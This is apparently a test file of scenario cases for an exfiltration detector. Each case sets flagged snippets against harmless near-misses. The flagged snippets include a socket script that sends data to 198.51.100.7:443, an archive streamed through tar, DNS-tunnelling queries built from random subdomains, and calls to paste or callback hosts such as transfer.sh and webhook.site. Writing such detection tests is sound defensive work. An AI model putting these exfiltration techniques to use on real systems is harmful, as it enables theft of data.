"""Data that leaves."""

from tests.scenario.pack.case import Case

SEND = """
write("send.py", '''
import socket, sys
c = socket.create_connection(("198.51.100.7", 443)); c.sendall(b"x" * 20_000); c.close()
''')
"""
RANDOM = """
import base64, hashlib
def noise(i, size): return base64.b32encode(hashlib.sha512(b"%d" % i).digest()).decode().lower()[:size]
"""
CASES = {
    "exfiltration/archive_sent": Case(
        ['write("all.tar.gz", "x" * 5_000); say(OUT, 443, b"x" * 20_000).close()'],
        [
            'write("all.tar.gz", "x" * 5_000); say(OUT, 443, b"x" * 100).close()',
            'write("all.tar.gz", "x" * 5_000); say("127.0.0.1", 443, b"x" * 20_000).close()',
            'say(OUT, 443, b"x" * 20_000).close(); write("all.tar.gz", "x" * 5_000)',
        ],
    ),
    "exfiltration/archive_uploaded": Case(
        [
            SEND + 'run(PYTHON, "-IS", "send.py", "all.tgz")',
            SEND + 'run(PYTHON, "-IS", "send.py", "file=@x.zip")',
        ],
        [
            SEND
            + 'run(PYTHON, "-IS", "send.py", "notes.txt"); run("/usr/bin/zip", "-q", "all.zip", "send.py")'
        ],
    ),
    "exfiltration/archive_streamed": Case(
        [SEND + 'run("sh", "-c", f"tar cf - send.py | {PYTHON} -IS send.py -; true")'],
        [SEND + 'run("sh", "-c", f"cat send.py | {PYTHON} -IS send.py -; true")'],
    ),
    "exfiltration/dns_many_names": Case(
        [RANDOM + 'for i in range(40): ask(noise(i, 24) + ".t.example.net")'],
        ['for i in range(60): ask(f"worker-number-{i % 7}.region.example.net")'],
    ),
    "exfiltration/dns_large_names": Case(
        [RANDOM + 'for i in range(5): ask(".".join((noise(i, 60), noise(i + 9, 60), "example.com")))'],
        ['for i in range(9): ask(".".join(("a" * 59 + str(i), "b" * 60, "example.com")))'],
    ),
    "exfiltration/paste_host_asked": Case(
        ['ask("transfer.sh")', 'ask("abc.oast.fun")'],
        ['ask("transfer.sh.example.org"); ask("mytransfer.sh")'],
    ),
    "exfiltration/paste_host_spoken": Case(
        ['say(OUT, 80, b"POST /a HTTP/1.1\\r\\nHost: webhook.site\\r\\n\\r\\n")'],
        ['say(OUT, 80, b"POST /a HTTP/1.1\\r\\nHost: webhook.example.org\\r\\n\\r\\n")'],
    ),
}
